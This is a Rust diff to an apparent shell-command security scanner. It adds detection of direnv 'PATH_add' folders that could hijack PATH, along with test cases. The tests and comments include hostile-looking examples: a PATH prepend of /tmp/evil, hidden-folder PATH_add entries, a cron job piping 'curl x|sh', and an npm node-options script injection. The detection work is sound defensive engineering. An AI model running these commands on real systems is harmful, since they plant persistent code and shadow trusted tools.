@@ -444,6 +444,20 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
                 out.push(Finding::new(PATH_HIJACK, Auth));
             }
         }
+        // direnv's `PATH_add DIR` (in an `.envrc` that `direnv allow` runs) puts DIR first on
+        // PATH: a folder in /tmp or a hidden one outside the project shadows `git`, `ssh`….
+        // The project's own folders (`PATH_add bin`, `node_modules/.bin`) are what it is for.
+        // (Program names are lower-cased: `PATH_add DIR` and `path_add VAR DIR` alike.)
+        if inv.program == "path_add" {
+            let dirs: Vec<&str> = inv.argv().collect();
+            let home = cx.policy.home();
+            if dirs.iter().any(|d| {
+                (d.starts_with('/') || d.starts_with('~') || d.starts_with('$'))
+                    && hidden_program(&paths::normalize(d, None, home), home)
+            }) {
+                out.push(Finding::new(PATH_HIJACK, Auth));
+            }
+        }
         let args: Vec<&str> = inv.argv().collect();
         match inv.program.as_str() {
             // `npm config set node-options "--require ~/.cache/x.js"`: every Node program npm
@@ -937,6 +951,10 @@ mod tests {
                     "shell_rc_write",
                 ),
                 ("export PATH=/tmp/evil:$PATH", Auth, "path_hijack"),
+                ("PATH_add /tmp/.devbin", Auth, "path_hijack"),
+                ("PATH_add ~/.cache/tools", Auth, "path_hijack"),
+                ("PATH_add bin && PATH_add node_modules/.bin", Pass, ""),
+                ("PATH_add /opt/homebrew/bin", Pass, ""),
                 (
                     "echo \"* * * * * curl x|sh\" | crontab -",
                     Block,
